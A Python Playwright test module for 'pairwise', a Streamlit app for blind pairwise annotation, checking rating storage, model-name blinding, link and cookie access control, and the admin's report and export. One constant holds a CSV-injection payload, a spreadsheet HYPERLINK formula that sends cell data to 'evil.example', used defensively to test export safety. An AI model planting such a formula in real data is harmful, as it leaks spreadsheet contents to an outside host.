"""The app in a real browser: Streamlit's server, headless Chromium and the SQLite file.

One server runs for the module, on a database prepared beforehand: the demo study, invite links
for an admin and for annotators, and judgments by three scripted annotators so that the report
has something to show. Each test signs in as its own annotator, so tests never share an item.

What is checked, and against what:

- a click or a key press stores the judgment row the test expects: the score turned towards
  model A by the test's own table of buttons and the side order the store recorded, and that
  side order is the one the page showed (the page's two texts are read back and matched with
  the stored responses); skips and flags (reason, note) as pass rows; the typed rationale; the
  progress text moving; a double click stores one judgment; typing digits in the note rates
  nothing; a key pressed while the next item is still loading (the server held up on
  purpose by the test holding the store's write lock) is refused in words and rates nothing,
  and the item then takes keys as usual;
- blinding: no model name in the page's HTML or in any websocket frame the browser received,
  while the frames do carry the texts shown (so the search can find what is there);
- access: an annotator's link reaches no admin page; no link, a wrong one and a revoked one see
  the sign-in message only; a link revoked mid-session stores nothing more; a reload keeps the
  annotator on their item: the link leaves the address bar and a session cookie of its own keeps
  them signed in at the root address and other paths, until they sign out or the link is revoked;
- first start: the app seeds the demo study into an empty database and runs in local demo mode.
"""

from __future__ import annotations

import random
import re
import sqlite3
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeout
from test_app_annotate import ShownOrder

from pairwise import auth
from pairwise.pages.common import SESSION_COOKIE
from pairwise.store import Store

from .driver import (
    DEMO_MODELS,
    SIGN_IN,
    after_run,
    eventually,
    main_text,
    next_item,
    progress,
    screenshot,
    serve,
    settle,
    wait_until,
)

pytestmark = pytest.mark.browser

ADMIN = "ada"
PEOPLE = ("mouse", "keys", "busy", "blind", "gate", "late", "gone", "back", "kept")
SCRIPTED = ("scripted-1", "scripted-2", "scripted-3")
ADMIN_TITLES = ("Studies", "Progress", "People", "Report", "Export")
#: The 7-point buttons, left to right, with the value each means for Response 1 (the left side).
BUTTONS = (
    ("Response 1 much better", 3),
    ("Response 1 better", 2),
    ("Response 1 slightly better", 1),
    ("Tie", 0),
    ("Response 2 slightly better", -1),
    ("Response 2 better", -2),
    ("Response 2 much better", -3),
)
NOTE = "Rationale or note (optional)"
FORMULA_NOTE = '=HYPERLINK("https://evil.example/?leak="&A1,"broken item")'


#: A text box's value, and whether it has the keyboard.
_TYPED = "(el) => [el.value, el === document.activeElement]"


def for_model_a(value_for_left: int, shown_order: str) -> int:
    """A preference for the left response, as a score for model A."""
    return value_for_left if shown_order == "AB" else -value_for_left


@dataclass(frozen=True)
class DemoApp:
    url: str
    db: str
    tokens: dict[str, str]

    def link(self, who: str, path: str = "") -> str:
        return f"{self.url}/{path}?token={self.tokens[who]}"


@pytest.fixture(scope="module")
def app(demo_copy: tuple[str, Path]) -> Iterator[DemoApp]:
    db, folder = demo_copy
    with Store(db) as store:
        tokens = {ADMIN: auth.invite(store, ADMIN, admin=True)[1]}
        tokens.update({name: auth.invite(store, name)[1] for name in PEOPLE})
        store.set_apart("demo", apart=False)  # invitations set it apart; here it is the study
        _judge_some(store)
    with serve(db, folder) as url:
        yield DemoApp(url, db, tokens)


def _judge_some(store: Store, per_person: int = 24) -> None:
    """Scripted annotators rate some items, preferring the bigger model more often than not."""
    study = store.get_study("demo")
    size = {model: rank for rank, model in enumerate(DEMO_MODELS)}
    rng = random.Random(7)
    for name in SCRIPTED:
        who = store.add_annotator(name).id
        for _ in range(per_person):
            item = store.next_comparison(study, who, rng=rng)
            lean = size[item.model_a] - size[item.model_b]
            score = max(-3, min(3, lean + rng.choice((-1, 0, 1))))
            store.record_judgment(
                item.comparison_id, who, score=score, shown_order=item.shown_order
            )


@pytest.fixture
def store(app: DemoApp) -> Iterator[Store]:
    s = Store(app.db)
    yield s
    s.close()


# -- what the page shows, and what the store holds ---------------------------------------------


@dataclass(frozen=True)
class Shown:
    """The comparison an annotator holds (their live lease) with its texts in the order shown."""

    comparison_id: int
    shown_order: str
    prompt: str
    left: str
    right: str


def on_screen(store: Store, annotator: str) -> Shown:
    rows = store.query(
        "SELECT l.comparison_id, l.shown_order, p.messages, ra.content AS a, rb.content AS b"
        " FROM leases l JOIN annotators who ON who.id = l.annotator_id"
        " JOIN comparisons c ON c.id = l.comparison_id JOIN prompts p ON p.id = c.prompt_id"
        " JOIN responses ra ON ra.id = c.response_a JOIN responses rb ON rb.id = c.response_b"
        " WHERE who.name = ?",
        [annotator],
    )
    assert len(rows) == 1, f"{annotator} holds {len(rows)} leases"
    row = rows[0]
    left, right = (row["a"], row["b"]) if row["shown_order"] == "AB" else (row["b"], row["a"])
    return Shown(row["comparison_id"], row["shown_order"], row["messages"], left, right)


def _letters(text: str) -> str:
    return "".join(ch for ch in text.casefold() if ch.isalnum())


def renders(shown_text: str, source: str) -> bool:
    """Whether text read off the page can be ``source`` rendered: its letters and digits, in
    order, within the source's (Markdown drops marks and link targets, never adds words)."""
    remaining = iter(_letters(source))
    return all(ch in remaining for ch in _letters(shown_text))


def check_sides(page, item: Shown) -> None:
    """The page shows the left text as Response 1 and the right one as Response 2 (waiting out
    a rerun that redraws them, as a late second click of a double click starts)."""

    def shown(label: str, text: str) -> bool:
        heading = page.get_by_role("heading", name=label, exact=True)
        body = page.get_by_test_id("stColumn").filter(has=heading).inner_text()
        return bool(body.removeprefix(label).strip()) and renders(body.removeprefix(label), text)

    for label, text in (("Response 1", item.left), ("Response 2", item.right)):
        eventually(page, partial(shown, label, text), f"{label} to show the stored text")


def judgments_of(store: Store, annotator: str) -> list[tuple]:
    return [
        (r["comparison_id"], r["score"], r["shown_order"], r["rationale"])
        for r in store.query(
            "SELECT comparison_id, score, shown_order, rationale FROM judgments"
            " WHERE annotator_id = (SELECT id FROM annotators WHERE name = ?) ORDER BY id",
            [annotator],
        )
    ]


def passes_of(store: Store, annotator: str) -> list[tuple]:
    return [
        (r["comparison_id"], r["reason"], r["note"])
        for r in store.query(
            "SELECT comparison_id, reason, note FROM passes"
            " WHERE annotator_id = (SELECT id FROM annotators WHERE name = ?) ORDER BY id",
            [annotator],
        )
    ]


def lease_first_item(store: Store, annotator: str, order: str) -> None:
    """Lease the annotator's first item in ``order``; the page hands a live lease back first."""
    study = store.get_study("demo")
    store.next_comparison(study, store.get_annotator(annotator).id, rng=ShownOrder(order))


def button(page, label: str):
    """The button labelled ``label`` (its accessible name may add "Shortcut <key>")."""
    return page.get_by_role("button", name=re.compile(rf"^{re.escape(label)}( Shortcut \S+)?$"))


# -- rating --------------------------------------------------------------------------------------


def test_rating_with_the_mouse_stores_what_was_clicked(app: DemoApp, tab, store: Store) -> None:
    page = tab.page
    lease_first_item(store, "mouse", "BA")
    page.goto(app.link("mouse"))
    nonce = next_item(page, None)
    assert progress(page)[0] == 0
    expected = []

    # a rationale typed, then a click (model A was shown on the right)
    first = on_screen(store, "mouse")
    assert first.shown_order == "BA"
    check_sides(page, first)
    rationale = "Response 1 names its source; <b>2</b> guesses — ü ✓"
    page.get_by_label(NOTE).fill(rationale)
    button(page, "Response 1 better").click()
    nonce = next_item(page, nonce)
    expected.append((first.comparison_id, for_model_a(2, "BA"), "BA", rationale))
    assert progress(page)[0] == 1

    # a double click stores one judgment, for the item it was meant for
    second = on_screen(store, "mouse")
    check_sides(page, second)
    button(page, "Response 2 much better").dblclick()
    nonce = next_item(page, nonce)
    expected.append(
        (second.comparison_id, for_model_a(-3, second.shown_order), second.shown_order, "")
    )

    third = on_screen(store, "mouse")
    check_sides(page, third)
    button(page, "Tie").click()
    nonce = next_item(page, nonce)
    expected.append((third.comparison_id, 0, third.shown_order, ""))

    skipped = on_screen(store, "mouse")
    button(page, "Skip").click()
    nonce = next_item(page, nonce)

    flagged = on_screen(store, "mouse")
    page.get_by_label(NOTE).fill("The answer stops mid-sentence.")
    button(page, "Flag").click()
    button(page, "Broken").click()
    next_item(page, nonce)
    assert progress(page)[0] == 3
    screenshot(page, "annotate-page")

    assert judgments_of(store, "mouse") == expected
    assert passes_of(store, "mouse") == [
        (skipped.comparison_id, "skip", ""),
        (flagged.comparison_id, "broken", "The answer stops mid-sentence."),
    ]
    assert tab.dialogs == []


def test_keyboard_shortcuts_rate_skip_and_flag(app: DemoApp, tab, store: Store) -> None:
    page = tab.page
    lease_first_item(store, "keys", "BA")
    page.goto(app.link("keys"))
    nonce = next_item(page, None)
    expected = []
    for key, (_, value) in zip("1234567", BUTTONS, strict=True):
        item = on_screen(store, "keys")
        check_sides(page, item)
        rationale = ""
        if key == "2":
            # typed key by key: digits and letters in the note are text, not shortcuts
            rationale = "Clearer by 2 steps; 1 small slip"
            note = page.get_by_label(NOTE)
            note.press_sequentially(rationale)
            typed = note.evaluate(_TYPED)
            if typed != [rationale, True]:
                # once, on a loaded CI machine, leaving the note started no run; it starts one
                # only when the note holds text not yet sent, so the note had likely lost its
                # text or the keyboard while typed into. Say what it held, and type it again.
                print(f"the note held {typed!r} after typing; typing it again", file=sys.stderr)
                note.fill("")
                note.press_sequentially(rationale)
                assert note.evaluate(_TYPED) == [rationale, True]
            # leaving the note sends it, in a run after any that a typed key would have started
            after_run(page, note.blur)
            assert judgments_of(store, "keys") == expected and passes_of(store, "keys") == []
        tab.press(key)
        nonce = next_item(page, nonce)
        expected.append(
            (item.comparison_id, for_model_a(value, item.shown_order), item.shown_order, rationale)
        )
        assert progress(page)[0] == len(expected)
    assert expected[0][2] == "BA"

    skipped = on_screen(store, "keys")
    tab.press("s")
    nonce = next_item(page, nonce)
    flagged = on_screen(store, "keys")
    page.get_by_label(NOTE).fill("Needs a source I cannot check.")
    # a key pressed while the note's run is going is refused (in words), so wait for it to end
    after_run(page, page.get_by_label(NOTE).blur)
    tab.press("f")
    button(page, "Unanswerable").click()
    next_item(page, nonce)
    assert progress(page)[0] == 7

    assert judgments_of(store, "keys") == expected
    assert passes_of(store, "keys") == [
        (skipped.comparison_id, "skip", ""),
        (flagged.comparison_id, "unanswerable", "Needs a source I cannot check."),
    ]
    assert tab.dialogs == []


_RUNNING = (
    "() => document.querySelector('[data-testid=\"stApp\"]')"
    "?.getAttribute('data-test-script-state') !== 'notRunning'"
)


@pytest.mark.sqlite_only("the test slows the server down by holding SQLite's write lock")
def test_a_key_pressed_while_the_next_item_loads_is_refused_in_words(
    app: DemoApp, tab, store: Store
) -> None:
    """A key that comes before the next item's buttons are on the page is not used for an item
    the annotator has not seen, and the page says so; the item then takes keys as usual."""
    page = tab.page
    page.goto(app.link("busy"))
    nonce = next_item(page, None)
    first = on_screen(store, "busy")
    notice = page.locator("#pairwise-key-notice")
    blocker = sqlite3.connect(app.db, isolation_level=None)
    blocker.execute("BEGIN IMMEDIATE")  # the server's next write waits until this ends
    try:
        tab.press("3")  # sent: the run stores the rating once the store is free
        page.wait_for_function(_RUNNING)
        page.keyboard.press("5")  # while that run waits: the next item is not on the page
        notice.wait_for(state="visible")
        assert "key 5 was not used" in notice.inner_text()
        assert "Press it again once it shows" in notice.inner_text()
        assert judgments_of(store, "busy") == []
    finally:
        blocker.execute("ROLLBACK")
        blocker.close()
    nonce = next_item(page, nonce)
    notice.wait_for(state="hidden")
    score = for_model_a(1, first.shown_order)  # key 3: Response 1 slightly better
    assert judgments_of(store, "busy") == [(first.comparison_id, score, first.shown_order, "")]

    second = on_screen(store, "busy")
    tab.press("5")  # now the item is there: Response 2 slightly better
    next_item(page, nonce)
    assert judgments_of(store, "busy") == [
        (first.comparison_id, score, first.shown_order, ""),
        (second.comparison_id, for_model_a(-1, second.shown_order), second.shown_order, ""),
    ]
    assert notice.is_hidden()


# -- blinding ------------------------------------------------------------------------------------


def _model_names(data: str | bytes) -> list[str]:
    """Demo model names, or their first word, found in ``data``."""
    text = data.decode("utf-8", errors="replace") if isinstance(data, bytes) else data
    words = {name for model in DEMO_MODELS for name in (model, model.split("-")[0])}
    return sorted(w for w in words if w in text.casefold())


def _plain_snippet(text: str) -> str:
    """A run of plain words from ``text``, which the page receives as they are."""
    return max(re.findall(r"[A-Za-z][A-Za-z ,']{15,60}[A-Za-z]", text), key=len)


def test_no_model_name_reaches_the_browser(app: DemoApp, tab, store: Store) -> None:
    page = tab.page
    page.goto(app.link("blind"))
    nonce = next_item(page, None)
    rng = random.Random(3)
    snippets = []
    for _ in range(5):
        item = on_screen(store, "blind")
        check_sides(page, item)
        assert _model_names(page.content()) == []
        snippets += [_plain_snippet(item.left), _plain_snippet(item.right)]
        tab.press(rng.choice("1234567s"))
        nonce = next_item(page, nonce)
    assert _model_names(page.content()) == []

    assert len(tab.frames) > 10
    assert [(i, _model_names(f)) for i, f in enumerate(tab.frames) if _model_names(f)] == []
    received = b"\n".join(tab.frames)
    # the search is not blind itself: every text shown was found in the frames
    assert [s for s in snippets if s.encode("utf-8") not in received] == []


# -- who gets in ---------------------------------------------------------------------------------


def _go_to(page, path: str) -> None:
    """Follow an in-app link to ``path`` without reloading, as a typed route in the same session."""
    page.evaluate(
        "(path) => { history.pushState({}, '', '/' + path);"
        " window.dispatchEvent(new PopStateEvent('popstate')); }",
        path,
    )


def _typed_route(page, path: str) -> None:
    """Go to ``path`` in the same session and wait for the run that draws it.

    Streamlit's page can leave a run undrawn that follows the sign-in run by a few milliseconds
    (the server runs it, the browser draws nothing); the route is then followed again."""
    for _ in range(2):
        try:
            after_run(page, partial(_go_to, page, path), timeout=10_000)
            return
        except PlaywrightTimeout:
            continue
    after_run(page, partial(_go_to, page, path))


def _titles(page) -> list[str]:
    return page.get_by_test_id("stMain").get_by_role("heading", level=1).all_inner_texts()


def test_an_annotator_link_reaches_no_admin_page(app: DemoApp, tab) -> None:
    page = tab.page
    page.goto(app.link("gate", "report"))  # a typed admin address with an annotator's link
    next_item(page, None)
    page.get_by_text("Page not found").wait_for()
    assert page.get_by_test_id("stSidebarNav").count() == 0  # no menu of admin pages
    for path in ("studies", "progress", "people", "report", "export"):
        _typed_route(page, path)  # the run for the typed page, finished
        assert not set(_titles(page)) & set(ADMIN_TITLES)
        assert button(page, "Skip").is_visible()  # the annotate page instead
    assert _model_names(page.content()) == []
    assert [f for f in tab.frames if _model_names(f) or b"scripted-" in f] == []


@pytest.mark.parametrize(
    ("who", "path", "problem"),
    [
        (None, "", None),
        (None, "report", None),
        ("wrong", "", "This sign-in link is not valid"),
        ("wrong", "people", "This sign-in link is not valid"),
        ("gone", "", "This sign-in link is not valid"),
    ],
)
def test_without_a_valid_link_only_the_sign_in_message_shows(
    app: DemoApp, tab, store: Store, who: str | None, path: str, problem: str | None
) -> None:
    if who == "gone":
        auth.revoke(store, "gone")
        url = app.link("gone", path)
    elif who == "wrong":
        url = f"{app.url}/{path}?token={auth.new_token()}"
    else:
        url = f"{app.url}/{path}"
    page = tab.page
    page.goto(url)
    page.get_by_text(SIGN_IN).wait_for()
    settle(page)
    if problem:
        assert page.get_by_text(problem).is_visible()
    assert _titles(page) == ["pairwise"]
    assert page.get_by_role("button").filter(has_text="Response").count() == 0
    assert page.get_by_test_id("stSidebarNav").count() == 0
    assert [f for f in tab.frames if _model_names(f) or b"Which response" in f] == []


def test_a_link_revoked_mid_session_stores_nothing_more(app: DemoApp, tab, store: Store) -> None:
    page = tab.page
    page.goto(app.link("late"))
    next_item(page, None)
    held = on_screen(store, "late")
    assert auth.revoke(store, "late") == 1
    button(page, "Tie").click()
    page.get_by_text("Your sign-in link has been revoked.").wait_for()
    settle(page)
    assert judgments_of(store, "late") == [] and passes_of(store, "late") == []
    assert on_screen(store, "late").comparison_id == held.comparison_id  # nothing moved on
    assert page.get_by_text(SIGN_IN).is_visible()


def _session_cookie(page) -> dict | None:
    """The app's session cookie as the browser holds it, or ``None``."""
    return next((c for c in page.context.cookies() if c["name"] == SESSION_COOKIE), None)


def _signed_in_as(page, who: str) -> None:
    """Wait for the annotate page of ``who``: an item on screen and their name in the sidebar."""
    next_item(page, None)
    page.get_by_test_id("stSidebar").get_by_text(f"Signed in as {who} (annotator)").wait_for()


def test_reloads_and_other_paths_stay_signed_in_until_signing_out(
    app: DemoApp, tab, store: Store
) -> None:
    page = tab.page
    page.goto(app.link("back"))
    _signed_in_as(page, "back")
    page.wait_for_url(lambda url: "token=" not in url)  # the link leaves the address bar
    held = on_screen(store, "back")
    cookie = wait_until(lambda: _session_cookie(page), "the session cookie")
    assert cookie["value"] != app.tokens["back"]  # a secret of its own, not the link
    assert auth.resume_session(store, cookie["value"]).name == "back"
    assert (cookie["path"], cookie["sameSite"], cookie["httpOnly"]) == ("/", "Strict", False)
    assert cookie["expires"] - time.time() > (auth.SESSION_DAYS - 1) * 86_400
    for address in (app.url, f"{app.url}/annotate", f"{app.url}/people"):
        page.goto(address)  # typed in the address bar: a new connection, no link
        _signed_in_as(page, "back")
        assert on_screen(store, "back") == held
        check_sides(page, held)
    page.reload()
    _signed_in_as(page, "back")
    assert not set(_titles(page)) & set(ADMIN_TITLES)
    assert app.tokens["back"] not in page.content()
    assert [f for f in tab.frames if app.tokens["back"].encode() in f] == []
    button(page, "Sign out").click()
    page.get_by_text(SIGN_IN).wait_for()
    page.wait_for_url(lambda url: "token=" not in url)
    wait_until(lambda: _session_cookie(page) is None, "the session cookie to be cleared")
    assert auth.resume_session(store, cookie["value"]) is None  # ended, not only forgotten
    assert auth.sign_in(store, app.tokens["back"]) is not None  # the link itself still works
    page.goto(app.url)
    page.get_by_text(SIGN_IN).wait_for()
    settle(page)
    assert page.get_by_role("button").filter(has_text="Response").count() == 0


def test_revoking_the_link_ends_the_remembered_session(app: DemoApp, tab, store: Store) -> None:
    page = tab.page
    page.goto(app.link("kept"))
    _signed_in_as(page, "kept")
    cookie = wait_until(lambda: _session_cookie(page), "the session cookie")
    page.reload()
    _signed_in_as(page, "kept")
    assert auth.revoke(store, "kept") == 1
    page.reload()  # the browser still sends the cookie; it signs nobody in
    page.get_by_text(SIGN_IN).wait_for()
    settle(page)
    assert page.get_by_role("button").filter(has_text="Response").count() == 0
    assert page.get_by_test_id("stSidebar").count() == 0
    wait_until(lambda: _session_cookie(page) is None, "the dead cookie to be cleared")
    page.context.add_cookies([{**cookie, "expires": time.time() + 3600}])  # kept by hand
    page.goto(f"{app.url}/annotate")
    page.get_by_text(SIGN_IN).wait_for()
    settle(page)
    assert page.get_by_role("button").filter(has_text="Response").count() == 0


# -- the admin's view ----------------------------------------------------------------------------


def test_the_admin_reads_the_report(app: DemoApp, tab, store: Store) -> None:
    page = tab.page
    page.goto(app.link(ADMIN))
    next_item(page, None)
    page.get_by_test_id("stSidebarNav").get_by_role("link", name="Report").click()
    page.wait_for_url("**/report")
    page.get_by_text("Win / tie / loss per pair").wait_for(timeout=90_000)
    settle(page)
    assert _titles(page) == ["Report"]
    summary = main_text(page)
    assert f"{store.counts()['judgments']} judgments" in summary
    # the admin does get the model names (the report's tables draw on a canvas, so they are
    # looked for in what the browser received)
    assert set(_model_names(b"\n".join(tab.frames))) >= set(DEMO_MODELS)
    screenshot(page, "report-page", height=3200)
    assert tab.dialogs == []


def test_the_admins_tables_offer_no_raw_csv_of_what_others_wrote(
    app: DemoApp, tab, store: Store
) -> None:
    # an annotator's rationale that a spreadsheet would run as a formula
    prompt = store.comparisons_frame("demo")["prompt_id"].iloc[0]
    notes = store.create_study("notes", pairs=[DEMO_MODELS[:2]], prompt_ids=[prompt], overlap=1)
    who = store.add_annotator("noted")
    got = store.next_comparison(notes, who.id)
    store.record_judgment(
        got.comparison_id, who.id, score=1, shown_order=got.shown_order, rationale=FORMULA_NOTE
    )
    page = tab.page
    page.goto(app.link(ADMIN, "export"))
    page.get_by_role("combobox", name="Study").click()
    page.get_by_role("option", name="notes", exact=True).click()
    page.get_by_role("combobox", name="Format").click()
    page.get_by_role("option", name="raw-jsonl", exact=True).click()
    # the models and the preview, drawn, the rationale among the preview's cells
    page.get_by_text("Preview (first").wait_for(timeout=60_000)
    page.get_by_test_id("stDataFrame").nth(1).wait_for()
    settle(page)
    assert FORMULA_NOTE.encode() in b"\n".join(tab.frames)
    boxes = page.get_by_test_id("stElementContainer").filter(has=page.get_by_test_id("stDataFrame"))
    assert boxes.count() == 2
    for i in range(boxes.count()):
        box = boxes.nth(i)
        box.scroll_into_view_if_needed()
        box.get_by_test_id("stDataFrame").hover()
        # the table's toolbar shows on hover, without a CSV download (pairwise's own exports
        # write CSV with such cells made inert; Streamlit's would write them as they are)
        toolbar = box.get_by_test_id("stElementToolbar")
        toolbar.get_by_role("button", name="Search").wait_for()
        assert toolbar.get_by_role("button", name="Download as CSV").count() == 0


def test_first_start_seeds_the_demo_in_local_demo_mode(tmp_path: Path, new_db, tab) -> None:
    db = new_db("fresh", bare=True)
    with serve(db, tmp_path) as url:
        page = tab.page
        page.goto(url)
        next_item(page, None)
        assert page.get_by_text("Local demo mode").is_visible()
        with Store(db) as store:
            study = store.get_study("demo")
            assert store.study_progress(study)["comparisons"] == 144
            lease = wait_until(
                lambda: store.query("SELECT a.name FROM leases l JOIN annotators a"
                                    " ON a.id = l.annotator_id"),
                "the local admin's lease",
            )  # fmt: skip
            assert lease == [{"name": "local-admin"}]
